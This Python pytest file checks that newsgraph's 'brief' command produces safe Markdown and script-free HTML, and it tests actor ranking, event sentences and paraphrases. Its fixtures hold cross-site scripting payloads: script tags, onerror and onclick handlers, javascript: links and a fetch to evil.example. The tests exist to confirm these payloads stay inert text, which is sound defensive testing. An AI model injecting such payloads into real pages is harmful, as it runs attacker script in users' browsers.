"""``newsgraph brief``: Markdown and a self-contained, script-free HTML page."""

from __future__ import annotations

import re
import shutil
import struct
import subprocess
import zlib
from html.parser import HTMLParser
from pathlib import Path

import pytest

import newsgraph
from newsgraph.brief import brief_of, render_html, render_markdown
from newsgraph.brief.sentences import (
    Names,
    SentenceTableError,
    actor_name,
    builtin_sentences,
    is_plural,
    parse_sentences,
    plural_predicate,
)
from newsgraph.cli.main import main
from newsgraph.cli.render import render_text
from newsgraph.model import Document, Genre
from tests.conftest import EXAMPLES, SEED, needs_seed

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
needs_chromium = pytest.mark.skipif(
    CHROMIUM is None,
    reason="Chromium is not installed (Debian package chromium; .ci/run installs it)",
)
FLAGS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
]  # fmt: skip

HOSTILE = """<!DOCTYPE html><html><head><title>Harbour <script>document.title='pwned'</script>
chief quits <img src=x onerror="document.body.innerHTML='pwned'"></title></head><body><article>
<h1>Harbour chief quits <script>alert(1)</script></h1>
<p>The harbour chief of Tesslin resigned on Monday after a row with the council, officials said.</p>
<p>“I will not be a scapegoat <script>fetch('https://evil.example/x')</script> for the council,”
said Ivo Rask, the outgoing chief. <a href="javascript:alert(2)">Read more</a></p>
<p>“<img src=x onerror=alert(3)> The port <b onclick="alert(4)">is safe</b>,” said Mara Olsen,
a spokeswoman for the council. The council will either appoint a new chief next month or ask
the deputy to stay on. The latter seems more likely.</p>
</article></body></html>"""


# A scraped plain-text copy keeps markup as text: the brief must show it, never run it.
HOSTILE_TEXT = (
    "Harbour chief quits <script>document.title='pwned'</script>\n\n"
    "The harbour chief of Tesslin resigned on Monday after a row with the council, officials "
    "said.\n\n"
    "“I will not be a scapegoat <script>document.body.innerHTML='pwned'</script> for the "
    "council,” said Ivo Rask, the outgoing chief, in a post linked as javascript:alert(2).\n\n"
    "“The port <b onclick=alert(4)>is safe</b>,” said Mara Olsen, a spokeswoman for the council.\n"
)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def brief(tmp_path: Path, page: Path, fmt: str, *options: str) -> str:
    out = tmp_path / f"brief.{fmt}"
    assert main(["brief", str(page), "--format", fmt, "--out", str(out), *options]) == 0
    return out.read_text(encoding="utf-8")


def test_markdown_has_every_section(tmp_path: Path) -> None:
    md = brief(tmp_path, EXAMPLES / "harbour-analysis.html", "md")
    for title in (
        "## Actors",
        "## What each speaker said",
        "## Contested claims",
        "## Events",
        "## Scenarios",
    ):
        assert title in md
    assert md.startswith("# ")


def test_html_is_self_contained_and_every_link_has_its_span(tmp_path: Path) -> None:
    html = brief(tmp_path, EXAMPLES / "harbour-analysis.html", "html")
    p = _Tags()
    p.feed(html)
    ids = {a["id"] for _, a in p.tags if a.get("id")}
    links = [a["href"] for t, a in p.tags if t == "a" and a.get("href")]
    assert links and all(h is not None and h.startswith("#") and h[1:] in ids for h in links)
    assert not [t for t, a in p.tags if t in ("script", "link", "img", "iframe") or a.get("src")]
    assert "Content-Security-Policy" in html


@pytest.mark.parametrize(
    ("name", "content"), [("hostile.html", HOSTILE), ("hostile.txt", HOSTILE_TEXT)]
)
def test_a_hostile_page_stays_text(tmp_path: Path, name: str, content: str) -> None:
    page = tmp_path / name
    page.write_text(content, encoding="utf-8")
    html = brief(tmp_path, page, "html")
    p = _Tags()
    p.feed(html)
    assert not [t for t, _ in p.tags if t in ("script", "img", "iframe", "object", "embed")]
    for _, attrs in p.tags:
        assert not any(k.startswith("on") for k in attrs), attrs
        assert not any((v or "").strip().lower().startswith("javascript:") for v in attrs.values())
    if name.endswith(".txt"):
        assert "&lt;script&gt;" in html and "javascript:alert" in html  # shown, as text
    md = brief(tmp_path, page, "md")
    assert "<script>" not in md and "<img" not in md


def test_bad_input_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["brief", str(tmp_path / "missing.html")]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("newsgraph: error:") and "\n" not in err


def _dump_dom(page: Path, profile: Path) -> subprocess.CompletedProcess[str]:
    """Headless Chromium loads ``page`` and prints its DOM; stderr carries the console."""
    assert CHROMIUM is not None
    return subprocess.run(
        [CHROMIUM, *FLAGS, f"--user-data-dir={profile}", "--enable-logging=stderr",
         "--dump-dom", page.as_uri()],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip


def _png_pixels(data: bytes) -> tuple[int, int, list[bytes]]:
    """Width, height and rows of an 8-bit RGB/RGBA non-interlaced PNG (what Chromium writes)."""
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    pos, idat, width, height, ctype = 8, b"", 0, 0, 6
    while pos < len(data):
        (n,) = struct.unpack(">I", data[pos : pos + 4])
        kind, body = data[pos + 4 : pos + 8], data[pos + 8 : pos + 8 + n]
        if kind == b"IHDR":
            width, height, depth, ctype = struct.unpack(">IIBB", body[:10])
            assert depth == 8 and ctype in (2, 6)
        elif kind == b"IDAT":
            idat += body
        pos += 12 + n
    bpp = 4 if ctype == 6 else 3
    raw = zlib.decompress(idat)
    stride = width * bpp
    rows: list[bytes] = []
    prev = bytearray(stride)
    for y in range(height):
        f = raw[y * (stride + 1)]
        line = bytearray(raw[y * (stride + 1) + 1 : (y + 1) * (stride + 1)])
        for i in range(stride):
            a = line[i - bpp] if i >= bpp else 0
            b = prev[i]
            c = prev[i - bpp] if i >= bpp else 0
            if f == 1:
                line[i] = (line[i] + a) & 255
            elif f == 2:
                line[i] = (line[i] + b) & 255
            elif f == 3:
                line[i] = (line[i] + (a + b) // 2) & 255
            elif f == 4:
                pa, pb, pc = abs(b - c), abs(a - c), abs(a + b - 2 * c)
                line[i] = (line[i] + (a if pa <= pb and pa <= pc else b if pb <= pc else c)) & 255
        rows.append(bytes(line if bpp == 3 else bytes(v for k, v in enumerate(line) if k % 4 != 3)))
        prev = line
    return width, height, rows


def _count(rows: list[bytes], rgb: tuple[int, int, int]) -> int:
    target = bytes(rgb)
    return sum(row.count(target) for row in rows)


@needs_chromium
def test_the_brief_renders_in_chromium_with_highlights_and_sections(tmp_path: Path) -> None:
    html_path = tmp_path / "brief.html"
    # the example's countries are invented: its events have no coded actor (GDELT's rule)
    html_path.write_text(
        brief(tmp_path, EXAMPLES / "harbour-analysis.html", "html", "--all-events"),
        encoding="utf-8",
    )
    shot = tmp_path / "shot.png"
    assert CHROMIUM is not None
    run = subprocess.run(
        [CHROMIUM, *FLAGS, f"--user-data-dir={tmp_path / 'profile'}", "--enable-logging=stderr",
         "--window-size=1400,2400", f"--screenshot={shot}", html_path.as_uri()],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert shot.is_file(), run.stderr[-2000:]
    console = [
        ln
        for ln in run.stderr.splitlines()
        if "CONSOLE" in ln or "Uncaught" in ln or "Refused" in ln
    ]
    assert not console, console
    _w, _h, rows = _png_pixels(shot.read_bytes())
    assert _count(rows, (0xFF, 0xF2, 0xB3)) > 500  # quotes highlighted
    assert _count(rows, (0xD7, 0xF5, 0xDC)) > 200  # events highlighted
    dom = _dump_dom(html_path, tmp_path / "p2").stdout
    for part in ("part-actors", "part-what", "part-contested", "part-events", "part-scenarios"):
        assert f'id="{part}"' in dom
    assert dom.count("<mark") > 10


@needs_chromium
@pytest.mark.parametrize(
    ("name", "content"), [("hostile.html", HOSTILE), ("hostile.txt", HOSTILE_TEXT)]
)
def test_a_hostile_page_runs_nothing_in_chromium(tmp_path: Path, name: str, content: str) -> None:
    page = tmp_path / name
    page.write_text(content, encoding="utf-8")
    html_path = tmp_path / "brief.html"
    html_path.write_text(brief(tmp_path, page, "html"), encoding="utf-8")
    run = _dump_dom(html_path, tmp_path / "profile")
    dom = run.stdout
    assert "<mark" in dom  # the brief rendered
    assert re.search(r"<title>\s*pwned\s*</title>", dom) is None  # no script set the title
    assert re.search(r"<body[^>]*>\s*pwned", dom) is None  # no handler replaced the page
    assert not [
        ln for ln in run.stderr.splitlines() if "Refused to execute" in ln or "Uncaught" in ln
    ]


@needs_seed
@needs_chromium
def test_the_seed_brief_opens_without_console_errors(tmp_path: Path) -> None:
    html_path = tmp_path / "seed.html"
    html_path.write_text(brief(tmp_path, SEED, "html"), encoding="utf-8")
    run = _dump_dom(html_path, tmp_path / "profile")
    assert "<mark" in run.stdout
    errors = [
        ln
        for ln in run.stderr.splitlines()
        if "CONSOLE" in ln and ("ERROR" in ln or "Uncaught" in ln)
    ]
    assert not errors, errors


# --- the brief an analyst acts on ------------------------------------------------------------

SPEAKER_PAGE = (
    "Quay plans for Bergen\n\n"
    "Bergen is a fishing town. Bergen has two piers, and Bergen draws summer visitors. "
    "Bergen hosts a market.\n\n"
    "“The new quay will open in May,” said Ivo Rask, the harbour master.\n\n"
    "Norway criticized Sweden over the fishing quota.\n\n"
    "Mara Olsen said that the fishing season would be short this year.\n"
)


@pytest.fixture(scope="module")
def speaker_doc() -> Document:
    return newsgraph.analyze(SPEAKER_PAGE)


def test_actors_are_ranked_by_what_they_do_not_by_mentions(speaker_doc: Document) -> None:
    mentions = {e.name: len(e.mentions) for e in speaker_doc.entities}
    assert mentions["Bergen"] > mentions["Ivo Rask"]  # Bergen is named most, and does nothing
    actors = next(s for s in brief_of(speaker_doc).sections if s.title == "Actors")
    order = [it.text for it in actors.items]
    assert order.index("Ivo Rask") < order.index("Bergen")
    assert order.index("Norway") < order.index("Bergen")
    rask = next(it for it in actors.items if it.text == "Ivo Rask")
    assert "1 quote" in rask.note
    text = render_text(speaker_doc)
    ranked = text.split("Actors", 1)[1]
    assert ranked.index("Ivo Rask") < ranked.index("Bergen")


def test_an_event_reads_as_a_sentence_beside_its_codes(speaker_doc: Document) -> None:
    events = next(s for s in brief_of(speaker_doc).sections if s.title == "Events")
    assert [it.text for it in events.items] == [
        "Norway criticizes or denounces Sweden (111, asserted)"
    ]
    assert "NOR → SWE" in events.items[0].note
    assert "Norway criticizes or denounces Sweden (111, asserted)" in render_text(speaker_doc)


def test_an_actor_coded_from_the_tables_alone_is_named_by_its_country_and_role() -> None:
    names = Names({"e1": "Moscow"}, {"e1": "location"}, {"RUS": "Russia"})
    assert actor_name(None, "RUSMIL", "Russian", names) == "Russia's military"
    assert actor_name(None, "RUS", "Russian", names) == "Russia"
    assert actor_name(None, "KEN", "Kenyan", names) == "Kenyan"  # no such country here
    assert actor_name("e1", "RUS", "Moscow", names) == "Moscow"


def test_a_plural_side_takes_a_plural_verb() -> None:
    names = Names(
        {"g": "Chinese companies", "c": "United States"}, {"g": "group", "c": "country"}, {}
    )
    assert is_plural("g", "Chinese companies", names)
    assert not is_plural("c", "United States", names)
    assert is_plural(None, "Russia's rebels", names)
    assert plural_predicate("arrests, detains or charges X") == "arrest, detain or charge X"
    assert plural_predicate("criticizes or denounces X") == "criticize or denounce X"
    assert (
        plural_predicate("denies responsibility, answering X") == "deny responsibility, answering X"
    )
    assert plural_predicate("visits X") == "visit X"


def test_every_sentence_template_is_valid() -> None:
    table = builtin_sentences()
    assert table["042"] == "{source} visits {target}"
    with pytest.raises(SentenceTableError, match=r"mine\.tsv:1: "):
        parse_sentences(["042\t{target} is visited"], "mine.tsv")
    with pytest.raises(SentenceTableError, match="not a CAMEO event code"):
        parse_sentences(["999\t{source} visits {target}"], "mine.tsv")


def test_an_indirect_quote_is_a_paraphrase_never_in_quotation_marks(
    speaker_doc: Document,
) -> None:
    said = next(s for s in brief_of(speaker_doc).sections if s.title.startswith("What"))
    olsen = next(it for it in said.items if it.text == "Mara Olsen")
    (item,) = olsen.children
    assert item.label == "paraphrase" and item.text[:1] not in '“"' and item.text[-1:] not in '”"'
    md = render_markdown(brief_of(speaker_doc))
    line = next(ln for ln in md.splitlines() if "fishing season" in ln)
    assert "**paraphrase**" in line and "“" not in line and "”" not in line
    text_line = next(ln for ln in render_text(speaker_doc).splitlines() if "fishing season" in ln)
    assert "“" not in text_line and "[paraphrase]" in text_line
    direct = next(ln for ln in md.splitlines() if "new quay" in ln)
    assert "“The new quay" in direct  # a direct quote keeps its marks


def test_the_genre_banner_sits_at_the_top(speaker_doc: Document) -> None:
    assert speaker_doc.article.genre is None or speaker_doc.article.genre.label
    doc = speaker_doc.model_copy(deep=True)
    doc.article.genre = None
    assert brief_of(doc).banner is None
    assert "> **" not in render_markdown(brief_of(doc)).split("## Actors")[0]
    doc.article.genre = Genre(label="press_release", evidence=["the page announces its own news"])
    md = render_markdown(brief_of(doc))
    assert md.splitlines()[2] == "> **Press release** — the page announces its own news"
    html = render_html(brief_of(doc))
    assert html.index('class="banner press_release"') < html.index("<h1>")
    assert render_text(doc).startswith("[Press release: the page announces its own news]")


def test_a_product_page_says_why_it_has_no_events(speaker_doc: Document) -> None:
    doc = speaker_doc.model_copy(deep=True)
    doc.article.genre = Genre(label="commerce", evidence=["a price and a basket"])
    doc.events = []
    events = next(s for s in brief_of(doc).sections if s.title == "Events")
    assert "--all-events" in events.empty


def test_brief_takes_quiet_and_all_events(tmp_path: Path) -> None:
    page = tmp_path / "pier.txt"
    page.write_text(
        "A row on the pier\n\nAnn Lee criticized Tom Baker on Friday over the new quay, "
        "which has cost the town twice what was planned.\n",
        encoding="utf-8",
    )
    md = brief(tmp_path, page, "md", "-q")
    assert "_No events found._" in md  # two private people: no coded actor on either side
    md = brief(tmp_path, page, "md", "-q", "--all-events")
    events = md.split("## Events", 1)[1].split("## Scenarios")[0].replace("\\", "")
    assert "Ann Lee criticizes or denounces Tom Baker (111, asserted)" in events


def test_a_code_without_wording_still_names_its_target(monkeypatch: pytest.MonkeyPatch) -> None:
    from newsgraph.brief import sentences
    from newsgraph.model import Event

    ev = Event(
        id="v1", start=0, end=10, source="e1", target="e2", trigger="visited",
        trigger_start=0, trigger_end=7, cameo="042", cameo_name="Make a visit",
        quad_class=1, goldstein=1.9, mode="asserted", text="x", rule="test", by="events.v1",
    )  # fmt: skip
    names = Names(entities={"e1": "Mara Quill", "e2": "Tesslin"}, kinds={}, countries={})
    assert sentences.event_sentence(ev, names) == "Mara Quill visits Tesslin"
    monkeypatch.setattr(sentences, "builtin_sentences", lambda: {"04": "{source} {name}"})
    assert sentences.event_sentence(ev, names) == "Mara Quill makes a visit (with Tesslin)"


def test_a_paraphrase_keeps_its_possessive() -> None:
    from newsgraph.brief.collect import quote_text
    from newsgraph.model import Quote

    text = "“the pier was for the fishers’"
    q = Quote(id="q1", start=0, end=9, text=text, kind="indirect", by="t")
    assert quote_text(q) == "the pier was for the fishers’"
